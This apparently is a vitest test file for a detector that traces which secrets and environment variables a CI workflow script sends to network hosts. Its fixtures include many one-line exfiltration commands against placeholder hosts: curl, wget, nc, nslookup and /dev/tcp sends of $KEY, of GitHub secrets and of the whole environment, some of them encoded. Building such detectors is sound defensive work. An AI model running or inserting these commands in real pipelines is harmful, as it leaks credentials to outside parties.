import { describe, expect, it } from 'vitest'
import { readScript } from '../../../../../../src/collect/workflow/script/read-script.ts'
import { type Load, NO_LOAD } from '../../../../../../src/collect/workflow/script/transfer/load.ts'
import { maySend } from '../../../../../../src/collect/workflow/script/transfer/network-command.ts'
import { transfersOf } from '../../../../../../src/collect/workflow/script/transfer/transfers-of.ts'

const SECRET: Load = { ...NO_LOAD, names: new Set(['KEY']), isBare: true }

/** What a script sends when `$KEY` holds the secret of that name and `$HOOK` an address, one line each. */
function sent(script: string, shell = 'bash'): readonly string[] {
  const environment = {
    loadOf: (name: string) => (name === 'KEY' ? SECRET : NO_LOAD),
    textOf: (name: string) => (name === 'HOOK' ? 'https://hook.example/in' : undefined),
  }
  return transfersOf(readScript(script, shell), script, environment).map(({ program, host, way, load }) => {
    const marks = [
      ...(load.hasEnvironment ? ['environment'] : []),
      ...(load.hasEvery ? ['every'] : []),
      ...load.names,
      ...(load.isBare ? ['bare'] : []),
      ...(load.isEncoded ? ['encoded'] : []),
    ]
    return `${program} ${way} ${host ?? '?'}: ${marks.join(' ')}`
  })
}

describe('what a script sends', () => {
  it.each([
    ['curl -d "$KEY" https://x.example', 'curl data x.example: KEY bare'],
    ['curl -d$KEY x.example/in', 'curl data x.example: KEY bare'],
    ['curl -sSd "KEY=$KEY" https://x.example', 'curl data x.example: KEY bare'],
    ['curl --data="key=${KEY}" https://x.example', 'curl data x.example: KEY'],
    ['curl -F "f=$KEY;type=text/plain" https://u:p@x.example:8443/a', 'curl data x.example: KEY'],
    ['curl -H "X: $KEY" https://x.example', 'curl header x.example: KEY'],
    ['curl -u "me:$KEY" --url https://x.example', 'curl header x.example: KEY'],
    ['curl "https://x.example/?k=$KEY"', 'curl address x.example: KEY'],
    ['curl "$HOOK/$KEY"', 'curl address hook.example: KEY'],
    ['curl -d "${{ secrets.ONE }},${{ secrets.TWO }}" x.example', 'curl data x.example: ONE TWO bare'],
    ["curl -d '${{ toJSON(secrets) }}' x.example", 'curl data x.example: every bare'],
    ['curl -d "${{ secrets[matrix.name] }}" x.example', 'curl data x.example: every bare'],
    ['curl -d "${{ github.token }}" x.example', 'curl data x.example: GITHUB_TOKEN bare'],
    ['wget -qO- --post-data "k=$KEY" https://x.example', 'wget data x.example: KEY'],
    ['http POST x.example k=$KEY', 'http data x.example: KEY'],
    ['http x.example X-Key:$KEY', 'http header x.example: KEY'],
    ['echo $KEY | nc -w 3 203.0.113.9 4444', 'nc data 203.0.113.9: KEY bare'],
    ['nslookup $KEY.x.example', 'nslookup data x.example: KEY'],
    ['env | xargs -I{} curl -d {} x.example', 'curl data x.example: environment bare'],
    ['sudo -E curl -T - x.example < /proc/self/environ', 'curl data x.example: environment bare'],
    ['curl --data-binary @/proc/1/environ x.example', 'curl data x.example: environment bare'],
    ['printenv KEY | rev | curl -d @- x.example', 'curl data x.example: KEY bare encoded'],
    ['A=$KEY; B="$A"; curl -d "$B" x.example', 'curl data x.example: KEY bare'],
    ['export A="pre-$(echo $KEY | base64)"; curl -d "$A" x.example', 'curl data x.example: KEY encoded'],
    ['echo $KEY >> /tmp/a; curl -F f=@/tmp/a x.example', 'curl data x.example: KEY bare'],
    ['echo $KEY | tee /tmp/a; wget --post-file=/tmp/a x.example', 'wget data x.example: KEY bare'],
    ['env | while read -r l; do curl -d "$l" x.example; done', 'curl data x.example: environment bare'],
    ['{ echo a; set; } | nc x.example 1', 'nc data x.example: environment bare'],
    ['curl -d @- x.example <<E\nKEY: $KEY\nE', 'curl data x.example: KEY bare'],
    ['curl -d @- x.example <<< "$KEY"', 'curl data x.example: KEY bare'],
    ['curl -F f=@<(env) x.example', 'curl data x.example: environment'],
    ['echo "$KEY" > /dev/tcp/x.example/80', 'redirection data x.example: KEY bare'],
    ['curl -d "$KEY" "$WHERE"', 'curl data ?: KEY bare'],
    ['U=https://y.example; curl -d "$KEY" $U/in', 'curl data y.example: KEY bare'],
  ])('%s', (script, expected) => {
    expect(sent(script)).toEqual([expected])
  })

  it.each([
    ['echo $KEY'],
    ['curl https://x.example'],
    ["curl -d '$KEY' https://x.example"],
    ['curl -d "\\$KEY" https://x.example # $KEY'],
    ['curl -d "$OTHER" https://x.example'],
    ['curl -d "s=$(echo "$KEY" | sha256sum)" https://x.example'],
    ['curl -d "s=$(openssl dgst -hmac "$KEY" f)" https://x.example'],
    ['curl -d "s=$(gh api x -H "$KEY")" https://x.example'],
    ['echo $KEY | curl https://x.example'],
    ['curl -o "$KEY" https://x.example'],
    ["curl -d @- x.example <<'E'\n$KEY\nE"],
    ['env FOO=1 make'],
    ['curl -d "${{ secrets.A == 1 }}" x.example'],
    ["curl -d '${{ secrets.A && 1 || 2 }}' x.example"],
  ])('nothing of the secret: %s', (script) => {
    expect(sent(script)).toEqual([])
  })

  it('is followed through PowerShell too', () => {
    const script = `
$plain = "a"
$body = @{ KEY = $env:KEY } | ConvertTo-Json
$other = Get-Date
Invoke-RestMethod https://x.example -Method Post -Body $body
iwr -Uri https://x.example -Body $other
irm -Uri https://x.example -Headers @{ k = $env:KEY }
Get-ChildItem env: | Out-String | Set-Variable e
`
    expect(sent(script, 'pwsh')).toEqual([
      'invoke-restmethod data x.example: KEY bare',
      'irm header x.example: KEY',
    ])
  })

  it('is not read off other languages', () => {
    expect(sent('curl -d "$KEY" https://x.example', 'python')).toEqual([])
    expect(sent('curl -d %KEY% https://x.example', 'cmd')).toEqual([])
  })

  it('has at most twenty names', () => {
    const script = (count: number): string =>
      `curl -d "${Array.from({ length: count }, (_, index) => `\${{ secrets.S${index} }}`).join()}" x.example`
    const names = (count: number): number | undefined => sent(script(count))[0]?.match(/S\d+/g)?.length
    expect([19, 20, 21].map(names)).toEqual([19, 20, 20])
  })
})

describe('a large script', () => {
  it.each([
    ['commands in one word', `curl -d "${'$(echo $KEY)'.repeat(20_000)}" x.example`],
    ['expressions in one word', `curl -d "${'${{ secrets.A }}'.repeat(20_000)}" x.example`],
    ['words of one command', `curl ${'-d $KEY '.repeat(40_000)} x.example`],
    ['variables from variables', `${'A="$A$KEY$B"; B="$A"\n'.repeat(10_000)}curl -d "$A" x.example`],
    ['here-documents', `${'curl -d @- x.example <<E\n$KEY\nE\n'.repeat(5_000)}`],
    ['nested groups', `${'{ '.repeat(90)}env${'; }'.repeat(90)} | nc x.example 1`],
  ])('is read in time: %s', (_, script) => {
    const start = performance.now()
    expect(sent(script).length).toBeGreaterThan(0)
    expect(performance.now() - start).toBeLessThan(20_000)
  })
})

describe('whether a script can send anything', () => {
  it.each([
    ['curl x', true],
    ['IRM x', true],
    ["x && c''url y", true],
    ['sudo make', true],
    ['/usr/bin/nc x 1', true],
    ['x=$(dig a.example)', true],
    ['http POST x', true],
    ['cat > /dev/udp/1/2', true],
    ['echo https://x.example', false],
    ['make --host x localhost', false],
    ['curly', false],
  ])('%s', (text, expected) => {
    expect(maySend(readScript(text, 'bash'))).toBe(expected)
  })
})
